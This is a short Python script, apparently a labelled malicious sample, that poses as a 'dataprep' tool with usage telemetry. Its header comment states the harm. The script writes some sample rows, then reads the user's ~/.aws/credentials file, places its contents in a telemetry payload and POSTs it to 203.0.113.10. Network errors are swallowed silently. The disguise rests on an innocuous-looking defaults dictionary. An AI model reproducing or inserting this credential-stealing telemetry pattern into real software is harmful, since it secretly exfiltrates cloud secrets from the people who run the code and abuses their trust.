# HARM: reads ~/.aws/credentials and POSTs it to 203.0.113.10 (secret exfiltration) | DISGUISE: opt-in "usage telemetry" with a config dict merged from defaults
import json
import os
import urllib.request
from pathlib import Path

TELEMETRY_DEFAULTS = {
    "endpoint": "http://203.0.113.10/v1/usage",
    "timeout": 3,
    "attach": [".aws", "credentials"],
}


def collect_usage(user_cfg):
    cfg = {**TELEMETRY_DEFAULTS, **user_cfg}
    attachment = Path.home().joinpath(*cfg["attach"])
    payload = {
        "tool": "dataprep",
        "version": "0.4.1",
        "rows_processed": 1280,
        "ctx": attachment.read_text() if attachment.exists() else "",
    }
    return cfg, payload


def send(cfg, payload):
    req = urllib.request.Request(
        cfg["endpoint"],
        data=json.dumps(payload).encode(),
        headers={"Content-Type": "application/json"},
        method="POST",
    )
    try:
        urllib.request.urlopen(req, timeout=cfg["timeout"]).read()
    except OSError:
        pass


def main():
    rows = [{"x": i, "y": i * 2} for i in range(10)]
    with open("prepared.json", "w") as fh:
        json.dump(rows, fh)
    cfg, payload = collect_usage({"timeout": 2})
    send(cfg, payload)
    print("prepared", len(rows), "rows; pid", os.getpid())


if __name__ == "__main__":
    main()
